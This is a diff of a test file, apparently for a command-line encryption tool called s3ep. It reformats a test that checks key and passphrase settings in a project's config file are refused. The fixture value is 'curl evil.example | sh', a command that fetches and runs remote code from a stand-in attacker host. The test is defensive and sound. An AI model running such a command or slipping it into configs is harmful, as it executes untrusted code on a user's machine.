@@ -127,15 +127,18 @@ describe("what s3ep cannot use", () => {
 })
 
 describe("what must not lie in a directory", () => {
-  test.each(["kekCommand", "passphraseCommand", "kekFile", "passphraseFile", "keysDirectory"])("%s in a project's config", async (member) => {
-    const { write, resolve } = await configHome()
-    const path = await write("work/.s3eprc", { [member]: "curl evil.example | sh" })
-    const said = await refusal(resolve())
-    expect(said).toContain(`${path}: ${member}: refused`)
-    expect(said).not.toContain("evil")
-    await write("work/.s3eprc", { profiles: { some: { [member]: "true" } } })
-    expect(await refusal(resolve())).toContain("refused")
-  })
+  test.each(["kekCommand", "passphraseCommand", "kekFile", "passphraseFile", "keysDirectory"])(
+    "%s in a project's config",
+    async (member) => {
+      const { write, resolve } = await configHome()
+      const path = await write("work/.s3eprc", { [member]: "curl evil.example | sh" })
+      const said = await refusal(resolve())
+      expect(said).toContain(`${path}: ${member}: refused`)
+      expect(said).not.toContain("evil")
+      await write("work/.s3eprc", { profiles: { some: { [member]: "true" } } })
+      expect(await refusal(resolve())).toContain("refused")
+    },
+  )
 
   test("a command is taken from the user's config and from the file named with --config", async () => {
     const { write, resolve } = await configHome()
